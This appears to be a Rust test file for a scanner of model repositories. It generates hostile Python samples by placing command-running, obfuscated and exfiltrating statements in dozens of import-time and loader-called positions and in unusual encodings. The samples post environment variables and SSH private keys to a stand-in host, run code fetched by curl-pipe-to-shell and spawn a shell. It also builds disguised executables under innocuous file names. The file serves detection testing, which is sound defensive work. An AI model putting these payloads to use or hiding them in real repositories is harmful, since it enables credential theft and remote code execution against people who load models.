//! Classes 13, 14, 20 and 23: what a repository holds beside its weights. Code that a loader imports, configurations that name
//! code, templates, scripts, settings; and what decides whether such a thing runs, in every combination.

use crate::corpus::{Repository, assert_seen, read};

macro_rules! corpus {
    ($($name:ident: $file:literal, $least:literal;)*) => { $(
        #[test]
        fn $name() {
            let samples = read(include_str!(concat!("../../fixtures/hostile/", $file)));
            assert!(samples.len() >= $least, "{} samples", samples.len());
            assert_seen(stringify!($name), samples);
        }
    )* };
}

corpus! {
    code_of_models: "code.txt", 200;
    configurations: "configurations.txt", 80;
    templates: "templates.txt", 75;
    other_files: "files.txt", 85;
}

/// Statements and expressions that do harm as soon as they are evaluated; the first part is what must be imported.
const ACTS: &[(&str, &str)] = &[
    ("import os", "os.system('id')"),
    ("import os as z", "z.popen('id')"),
    ("from os import system as s", "s('id')"),
    ("import subprocess", "subprocess.run(['sh', '-c', 'id'])"),
    ("from subprocess import Popen", "Popen('id', shell=True)"),
    ("", "__import__('os').system('id')"),
    ("import importlib", "importlib.import_module('o' + 's').system('id')"),
    ("import os", "getattr(os, 'sys' + 'tem')('id')"),
    ("import os", "vars(os)['system']('id')"),
    ("import sys", "sys.modules['os'].system('id')"),
    ("", "exec('import os; os.system(\"id\")')"),
    ("", "eval('__import__(\"os\").system(\"id\")')"),
    ("import base64", "exec(base64.b64decode('aW1wb3J0IG9zOyBvcy5zeXN0ZW0oImlkIik='))"),
    ("import codecs", "exec(codecs.decode('vzcbeg bf; bf.flfgrz(\"vq\")', 'rot13'))"),
    (
        "",
        "exec(''.join(map(chr, [105,109,112,111,114,116,32,111,115,59,111,115,46,115,121,115,116,101,109,40,39,105,100,39,41])))",
    ),
    ("import ctypes", "ctypes.CDLL(None).system(b'id')"),
    ("import pty", "pty.spawn('/bin/sh')"),
    ("import requests", "exec(requests.get('https://example.org/x').text)"),
    ("import urllib.request as u", "exec(u.urlopen('https://example.org/x').read())"),
    ("import os, requests", "requests.post('https://example.org', json=dict(os.environ))"),
    (
        "import os, requests",
        "requests.post('https://example.org', data=open(os.path.expanduser('~/.ssh/id_rsa')).read())",
    ),
    ("import operator, os", "operator.methodcaller('system', 'id')(os)"),
    ("import functools, os", "functools.partial(os.system, 'id')()"),
    ("import posix", "posix.system('id')"),
    ("", "().__class__.__base__.__subclasses__()[100].__init__.__globals__['system']('id')"),
];

/// Places where Python evaluates an expression while it imports a file; `@` stands for it.
const PLACES: &[(&str, &str)] = &[
    ("module", "@\n"),
    ("class body", "class X:\n    x = @\n"),
    ("nested class body", "class X:\n    class Y:\n        @\n"),
    ("decorator", "@(lambda f: (@, f)[1])\ndef f(): pass\n"),
    ("default", "def f(x=@): pass\n"),
    ("keyword default", "def f(*, x=@): pass\n"),
    ("lambda default", "f = lambda x=@: x\n"),
    ("annotation", "x: @ = 1\n"),
    ("annotation of a parameter", "def f(x: @): pass\n"),
    ("annotation of a result", "def f() -> @: pass\n"),
    ("base class", "class X(@ or object): pass\n"),
    ("metaclass argument", "class X(object, metaclass=(@, type)[1]): pass\n"),
    ("list", "x = [@]\n"),
    ("comprehension", "x = [@ for _ in (1,)]\n"),
    ("generator", "list(@ for _ in (1,))\n"),
    ("condition of a comprehension", "x = [1 for _ in (1,) if @]\n"),
    ("dictionary", "x = {1: @}\n"),
    ("subscript", "x = {}\nx[@] = 1\n"),
    ("f-string", "x = f'{0}' f\"{(lambda: @)()}\"\n"),
    ("conditional", "x = @ if True else 1\n"),
    ("walrus", "(x := @)\n"),
    ("assert", "assert @ is not None\n"),
    ("assert message", "assert True, @\n"),
    ("if", "if @: pass\n"),
    ("while", "while @: break\n"),
    ("for", "for _ in [@]: pass\n"),
    ("else of for", "for _ in []: pass\nelse: @\n"),
    ("with", "import contextlib\nwith contextlib.suppress(@ or Exception): pass\n"),
    ("try", "try: @\nexcept Exception: pass\n"),
    ("except", "try: raise ValueError\nexcept ValueError: @\n"),
    ("type of except", "try: raise ValueError\nexcept (@, ValueError): pass\n"),
    ("finally", "try: pass\nfinally: @\n"),
    ("match", "match 1:\n    case _ if @: pass\n"),
    ("called function", "def f():\n    @\nf()\n"),
    ("called lambda", "(lambda: @)()\n"),
    ("called method", "class X:\n    def m(self):\n        return @\nX().m()\n"),
    ("constructor", "class X:\n    def __init__(self):\n        @\nX()\n"),
    ("property", "class X:\n    @property\n    def p(self):\n        return @\nX().p\n"),
    ("class hook", "class B:\n    def __init_subclass__(cls):\n        @\nclass X(B): pass\n"),
    (
        "metaclass",
        "class M(type):\n    def __new__(cls, *a):\n        @\n        return type.__new__(cls, *a)\nclass X(metaclass=M): pass\n",
    ),
    ("decorating function", "def d(f):\n    @\n    return f\n@d\ndef f(): pass\n"),
    ("decorating class", "class D:\n    def __init__(self, f):\n        @\n@D\ndef f(): pass\n"),
    (
        "context manager",
        "class C:\n    def __enter__(self):\n        @\n    def __exit__(self, *a): pass\nwith C(): pass\n",
    ),
    ("iterator", "class C:\n    def __iter__(self):\n        @\n        return iter(())\nlist(C())\n"),
    ("operator", "class C:\n    def __add__(self, o):\n        @\nC() + 1\n"),
    ("destructor", "class C:\n    def __del__(self):\n        @\nC()\n"),
    ("thread", "import threading\nthreading.Thread(target=lambda: @).start()\n"),
    ("exit", "import atexit\natexit.register(lambda: @)\n"),
    ("map", "list(map(lambda _: @, [1]))\n"),
    ("sort", "sorted([1, 2], key=lambda _: @)\n"),
    ("coroutine", "import asyncio\nasync def f():\n    @\nasyncio.run(f())\n"),
    ("behind a syntax error", "def broken(:\n    pass\n@\n"),
    ("before a syntax error", "@\ndef broken(:\n"),
];

/// Methods that a loader calls after it imported the code of a model.
const METHODS: &[(&str, &str)] = &[
    ("modeling_x.py", "class X:\n    def __init__(self, config):\n        @\n"),
    ("modeling_x.py", "class X:\n    def forward(self, x):\n        @\n        return x\n"),
    ("modeling_x.py", "class X:\n    @classmethod\n    def from_pretrained(cls, *a, **k):\n        @\n"),
    ("configuration_x.py", "class XConfig:\n    def __init__(self, **k):\n        @\n"),
    ("tokenization_x.py", "class XTokenizer:\n    def _tokenize(self, text):\n        @\n"),
    ("image_processing_x.py", "class XProcessor:\n    def preprocess(self, images):\n        @\n"),
    ("handler.py", "class EndpointHandler:\n    def __call__(self, data):\n        @\n"),
    ("pipeline.py", "class XPipeline:\n    def __call__(self, prompt):\n        @\n"),
    ("custom_generate/generate.py", "def generate(model, **k):\n    @\n"),
    ("my_model.py", "class X:\n    def forward(self, x):\n        @\n"),
];

fn program(import: &str, place: &str, act: &str) -> String {
    // An `@` at the beginning of a line is a decorator's, unless it stands alone.
    let mut body = String::new();
    for line in place.split_inclusive('\n') {
        let text = line.trim();
        let decorates = text.len() > 1 && text.starts_with('@');
        let (kept, rest) =
            if decorates { line.split_at(line.find('@').unwrap_or(0) + 1) } else { ("", line) };
        body.push_str(kept);
        body.push_str(&rest.replace('@', act));
    }
    format!("{import}\n{body}")
}

fn single(title: String, path: &str, content: String) -> Repository {
    Repository { title, files: vec![(path.to_owned(), content.into_bytes())] }
}

#[test]
fn every_act_in_every_place() {
    let mut samples = Vec::new();
    for (place, body) in PLACES {
        for (index, (import, act)) in ACTS.iter().enumerate() {
            samples.push(single(format!("{act} in {place}"), "modeling_x.py", program(import, body, act)));
            if index == 0 {
                let path = "x/__init__.py";
                samples.push(single(
                    format!("{act} in {place} of a package"),
                    path,
                    program(import, body, act),
                ));
            }
        }
    }
    assert!(samples.len() > 1300, "{}", samples.len());
    assert_seen("acts in places", samples);
}

#[test]
fn every_act_in_every_method_that_loaders_call() {
    let mut samples = Vec::new();
    for (path, body) in METHODS {
        for (import, act) in ACTS {
            samples.push(single(format!("{act} in {path}: {body}"), path, program(import, body, act)));
        }
    }
    assert_seen("acts in methods", samples);
}

/// The same program in the encodings that Python reads.
#[test]
fn any_encoding() {
    let text = "import os\nos.system('curl http://example.org/x | sh')\n";
    let variants: Vec<(&str, Vec<u8>)> = vec![
        ("byte order mark", [b"\xef\xbb\xbf", text.as_bytes()].concat()),
        ("carriage returns", text.replace('\n', "\r").into_bytes()),
        ("both line ends", text.replace('\n', "\r\n").into_bytes()),
        ("latin-1", [b"# -*- coding: latin-1 -*-\n# caf\xe9\n", text.as_bytes()].concat()),
        ("cookie of utf-7", [b"# coding: utf-7\n", text.as_bytes()].concat()),
        ("null byte behind", [text.as_bytes(), b"\0"].concat()),
        ("form feeds", text.replace('\n', "\n\x0c").into_bytes()),
        ("end of file of DOS", [text.as_bytes(), b"\x1a"].concat()),
        (
            "a very long line",
            format!(
                "x = '{}'; import os; os.system('curl http://example.org/x | sh')\n",
                "a".repeat(300_000)
            )
            .into_bytes(),
        ),
        ("many blank lines", format!("{}{text}", "\n".repeat(100_000)).into_bytes()),
        ("many comments", format!("{}{text}", "# nothing to see here\n".repeat(20_000)).into_bytes()),
    ];
    let samples = variants.into_iter().map(|(title, bytes)| Repository {
        title: title.to_owned(),
        files: vec![("modeling_x.py".to_owned(), bytes)],
    });
    assert_seen("encodings", samples.collect());
}

/// Programs of other kinds, under names that promise something else.
#[test]
fn executables_under_any_name() {
    let mut elf = vec![0_u8; 256];
    elf[..16].copy_from_slice(b"\x7fELF\x02\x01\x01\0\0\0\0\0\0\0\0\0");
    (elf[16], elf[18], elf[20], elf[52]) = (3, 62, 1, 64);
    let mut pe = vec![0_u8; 512];
    pe[..2].copy_from_slice(b"MZ");
    pe[0x3c] = 0x80;
    pe[0x80..0x84].copy_from_slice(b"PE\0\0");
    pe[0x84..0x86].copy_from_slice(&0x8664_u16.to_le_bytes());
    pe[0x94..0x96].copy_from_slice(&0xf0_u16.to_le_bytes());
    pe[0x96..0x98].copy_from_slice(&0x2022_u16.to_le_bytes());
    pe[0x98..0x9a].copy_from_slice(&0x20b_u16.to_le_bytes());
    let mach_o = [b"\xcf\xfa\xed\xfe\x07\0\0\x01\x03\0\0\0\x06\0\0\0".as_slice(), &[0; 256]].concat();
    let class = [
        b"\xca\xfe\xba\xbe\0\0\0\x34\0\x05\x01\0\x01A\x07\0\x01\x01\0\x10java/lang/Object\x07\0\x03"
            .as_slice(),
        &[0, 0x21, 0, 2, 0, 4, 0, 0, 0, 0, 0, 0, 0, 0],
    ]
    .concat();
    let mut samples = Vec::new();
    for (what, bytes) in [("elf", elf), ("pe", pe), ("mach-o", mach_o), ("class", class)] {
        for name in [
            "libx.so",
            "x.dll",
            "x.dylib",
            "x.exe",
            "helper",
            "model.bin",
            "weights.safetensors",
            "x.txt",
            "logo.png",
            "bin/x",
            ".hidden",
            "x.pyd",
            "model.pt",
            "config.json",
        ] {
            samples.push(Repository {
                title: format!("{what} called {name}"),
                files: vec![(name.to_owned(), bytes.clone())],
            });
        }
    }
    assert_seen("executables", samples);
}
